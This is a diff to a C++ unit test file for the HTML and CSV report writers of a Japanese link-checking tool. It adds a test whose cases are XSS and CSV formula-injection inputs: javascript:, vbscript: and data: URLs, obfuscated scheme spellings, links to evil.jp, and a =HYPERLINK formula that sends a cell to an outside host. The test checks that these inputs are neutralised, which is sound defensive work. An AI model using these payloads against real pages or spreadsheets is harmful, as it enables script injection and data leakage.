@@ -57,6 +57,53 @@ TEST(ReportTest, HtmlReportEscapesValuesAndFillsBlankNames) {
                 "</TBODY>\r\n</TABLE>\r\n</P>\r\n</BODY>\r\n</HTML>\r\n");
 }
 
+TEST(ReportTest, PageTextNeverRunsAsScriptOrFormula) {
+  enum Links { kNone, kClassic, kBoth };  // which HTML reports link the address
+  const struct {
+    std::string text;
+    Links links;
+    std::string csv;  // the detailed CSV cell; the classic one stays as written
+  } cases[] = {
+      {"http://a.jp/?q=1&r=2", kBoth, "http://a.jp/?q=1&r=2"},
+      {"HTTPS://a.jp/", kBoth, "HTTPS://a.jp/"},
+      {"sub/b.htm#x", kClassic, "sub/b.htm#x"},
+      {"\x01http://a.jp/", kClassic, "\x01http://a.jp/"},
+      {"\x01javascript:alert(document.domain)", kNone, "\x01javascript:alert(document.domain)"},
+      {"JaVaScRiPt:alert(1)", kNone, "JaVaScRiPt:alert(1)"},
+      {" \x1F java\tscr\nipt:x\x01 ", kNone, "\" \x1F java\tscr\nipt:x\x01 \""},
+      {"&#1;&#106;ava&#X73;cript&colon;x", kNone, "&#1;&#106;ava&#X73;cript&colon;x"},
+      {"jav&Tab;ascript:x", kNone, "jav&Tab;ascript:x"},
+      {"data:text/html,<script>alert(1)</script>", kNone,
+       "\"data:text/html,<script>alert(1)</script>\""},
+      {"vbscript:msgbox(1)", kNone, "vbscript:msgbox(1)"},
+      {"//evil.jp/x", kNone, "//evil.jp/x"},
+      {"&sol;\\evil\\share", kNone, "&sol;\\evil\\share"},
+      {"=HYPERLINK(\"http://e.jp/?\"&A1,\"Click\")", kClassic,
+       "\"'=HYPERLINK(\"\"http://e.jp/?\"\"&A1,\"\"Click\"\")\""},
+      {"+1", kClassic, "'+1"},
+      {"-1", kClassic, "'-1"},
+      {"@SUM(A1)", kClassic, "'@SUM(A1)"},
+      {"\t=1", kClassic, "'\t=1"},
+      {"\r\t=1", kClassic, "\"'\r\t=1\""},
+  };
+  for (const auto& c : cases) {
+    SCOPED_TRACE(testing::PrintToString(c.text));
+    const std::vector<ResultRow> rows{
+        {1, {c.text, "n", "/p"}, Outcome(CheckOutcome::Kind::kFailed)}};
+    const std::string classic = FormatHtmlReport(rows);
+    const std::string text = EscapeHtml(c.text);
+    EXPECT_NE(classic.find(c.links == kNone ? "<FONT size=\"-1\">" + text + "</FONT>"
+                                            : "\">" + text + "</A>"),
+              std::string::npos);
+    EXPECT_EQ(classic.find("<A href=") != std::string::npos, c.links != kNone);
+    EXPECT_EQ(FormatDetailedHtmlReport(rows, {}).find("href") != std::string::npos,
+              c.links == kBoth);
+    EXPECT_NE(FormatDetailedCsvReport(rows).find("\r\n000001,×," + c.csv + ",n,/p,"),
+              std::string::npos);
+    EXPECT_EQ(FormatCsvReport(rows), "000001,×," + CsvField(c.text) + ",n,/p\r\n");
+  }
+}
+
 TEST(ReportTest, WrittenReportIsShiftJisInTheFormItsNameSays) {
   struct Case {
     const char* path;
@@ -88,20 +135,33 @@ TEST(ReportTest, DetailedReportsSayWhatWasCheckedWhyALinkFailedAndWhereItLeadsNo
   std::vector<ResultRow> rows = TwoRows();
   rows[0].outcome.reason = FailureReason::kTimeout;
   rows[1].outcome.redirected_to = "http://new.jp/";
-  EXPECT_EQ(FormatDetailedCsvReport(rows),
+  const ReportHeading heading{"/site", "2026-12-07 10:00:00", "ｻﾌﾞﾃﾞｨﾚｸﾄﾘを含む", std::nullopt};
+  ReportHeading crawl = heading;
+  crawl.crawl = CrawlCounts{3, 1, 2};
+  EXPECT_EQ(FormatDetailedCsvReport(rows, heading),
+            "検査対象,/site,,,,,\r\n検査日時,2026-12-07 10:00:00,,,,,\r\n"
+            "ｵﾌﾟｼｮﾝ,ｻﾌﾞﾃﾞｨﾚｸﾄﾘを含む,,,,,\r\n件数,× 1 件 / ◎ 1 件 / △ 0 件 / Ｐ 1 件,,,,,\r\n"
             "No,結果,URL,リンク名,ページ,理由,転送先\r\n"
             "000001,×,http://a.jp/?q=1&r=<2>,\"say \"\"hi\"\"\",/p/a.htm,ﾀｲﾑｱｳﾄ,\r\n"
             "000002,◎, http://b.jp/ ,  ,\"/p/b,c.htm\",,http://new.jp/\r\n"
             "000003,Ｐ,http://c.jp/,\"a\rb\",/p/c.htm,,\r\n");
   EXPECT_TRUE(ReportBytes(rows, {ReportForm::kCsv, ReportEncoding::kUtf8, true})
-                  .starts_with("\xEF\xBB\xBFNo,結果,"));
-  const std::string html =
-      FormatDetailedHtmlReport(rows, {"/site", "2026-12-07 10:00:00", "ｻﾌﾞﾃﾞｨﾚｸﾄﾘを含む"});
+                  .starts_with("\xEF\xBB\xBF検査対象,,"));
+  EXPECT_NE(FormatDetailedCsvReport(rows, crawl)
+                .find("ｵﾌﾟｼｮﾝ,ｻﾌﾞﾃﾞｨﾚｸﾄﾘを含む,,,,,\r\n"
+                      "巡回したﾍﾟｰｼﾞ,3 件,,,,,\r\n"
+                      "上限で省いたﾍﾟｰｼﾞ,1 件,,,,,\r\n"
+                      "robots.txt で除外,2 件,,,,,\r\n件数,"),
+            std::string::npos);
+  EXPECT_EQ(FormatDetailedHtmlReport(rows, heading).find("巡回"), std::string::npos);
+  const std::string html = FormatDetailedHtmlReport(rows, crawl);
   for (const char* part : {
            "<!DOCTYPE html>\r\n<html lang=\"ja\">\r\n<head>\r\n<meta charset=\"UTF-8\">\r\n"
            "<meta name=\"generator\" content=\"Voxtrel ",
            "<dt>検査対象</dt><dd>/site</dd>", "<dd>2026-12-07 10:00:00</dd>",
-           "<dd>ｻﾌﾞﾃﾞｨﾚｸﾄﾘを含む</dd>", "<p>× 1 件 / ◎ 1 件 / △ 0 件 / Ｐ 1 件</p>",
+           "<dd>ｻﾌﾞﾃﾞｨﾚｸﾄﾘを含む</dd>\r\n<dt>巡回したﾍﾟｰｼﾞ</dt><dd>3 件</dd>\r\n"
+           "<dt>上限で省いたﾍﾟｰｼﾞ</dt><dd>1 件</dd>\r\n<dt>robots.txt で除外</dt><dd>2 件</dd>",
+           "<p>× 1 件 / ◎ 1 件 / △ 0 件 / Ｐ 1 件</p>",
            "<tr><th>No</th><th>結果</th><th>URL</th><th>リンク名</th><th>ページ</th><th>理由</th>"
            "<th>転送先</th></tr>",
            "<tr class=\"failed\"><td>000001</td><td class=\"mark\">×</td><td class=\"url\">"
